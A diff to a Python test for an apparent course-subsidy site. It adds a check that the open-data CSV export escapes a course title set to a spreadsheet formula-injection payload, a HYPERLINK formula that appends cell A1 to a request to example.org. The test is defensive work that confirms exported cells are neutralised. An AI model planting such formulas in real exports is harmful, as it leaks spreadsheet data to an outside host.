@@ -55,7 +55,10 @@ def test_the_public_finds_a_course(here):
     assert calendar.count("BEGIN:VEVENT") == course.sessions.count()
     assert f"DTSTART:{first.starts_at.astimezone(UTC):%Y%m%dT%H%M%SZ}" in calendar
     assert f"DTEND:{first.ends_at.astimezone(UTC):%Y%m%dT%H%M%SZ}" in calendar
-    assert course.code in see(anybody, "ojt_subsidy:open_data_csv")
+    type(course).objects.filter(pk=course.pk).update(title='=HYPERLINK("http://example.org"&A1)')
+    sheet = see(anybody, "ojt_subsidy:open_data_csv")
+    assert course.code in sheet
+    assert "'=HYPERLINK" in sheet, "a cell that a spreadsheet would run"
     assert anybody.get(reverse("ojt_subsidy:open_data_json")).json()["count"] == 1
     assert "還沒有人報名" in see(anybody, "ojt_subsidy:ledger", course.code)
     see(anybody, "ojt_subsidy:course", "115-000999", status=404)
